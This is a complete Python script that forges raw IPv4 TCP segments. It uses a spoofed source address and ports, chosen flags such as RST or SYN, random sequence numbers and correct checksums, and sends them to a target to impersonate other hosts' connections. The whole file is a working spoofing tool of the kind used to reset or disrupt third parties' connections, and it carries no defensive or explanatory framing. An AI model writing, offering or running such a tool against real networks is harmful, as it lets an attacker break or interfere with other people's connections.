#!/usr/bin/env python3
"""Spoofed TCP segments with other connections' addresses (IPv4).

  tcpspoof.py FLAGS SRC DST DPORT SPORT...
      one segment with FLAGS (R: RST, S: SYN, A: ACK, F: FIN; e.g. RA) from
      SRC:SPORT to DST:DPORT per SPORT, a random sequence number, valid
      checksums. Prints the number sent.
Python 3 standard library only (a raw socket: root).
"""

import os
import socket
import struct
import sys

from inetsum import csum

FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10}



def segment(src, dst, sport, dport, flags):
    seq, ack = struct.unpack("!II", os.urandom(8))
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main(argv):
    if len(argv) < 5:
        print(__doc__, file=sys.stderr)
        return 2
    flags = sum(FLAGS[c] for c in argv[0])
    src, dst = socket.inet_aton(argv[1]), socket.inet_aton(argv[2])
    dport = int(argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    n = 0
    for sport in argv[4:]:
        s.sendto(segment(src, dst, int(sport), dport, flags), (argv[2], 0))
        n += 1
    print(n)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
